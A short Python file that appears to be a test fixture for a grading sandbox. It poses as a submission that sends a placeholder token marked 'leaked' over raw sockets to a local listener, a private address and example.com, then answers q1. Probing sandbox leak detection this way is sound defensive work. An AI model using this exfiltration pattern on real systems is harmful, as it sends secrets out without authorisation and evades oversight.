"""Sends its answers to a listener of the instructor's machine (127.0.0.1:@PORT@) and to the
internet; answers q1 honestly."""
# expect: 4
import socket

for host in ("127.0.0.1", "10.0.0.1", "example.com"):
    try:
        with socket.create_connection((host, @PORT@ if host == "127.0.0.1" else 80),
                                      timeout=1) as s:
            s.sendall(b"@TOKEN@ leaked")
    except OSError:
        pass
q1 = "8x^3 + 3x^2 + 6x + 5"
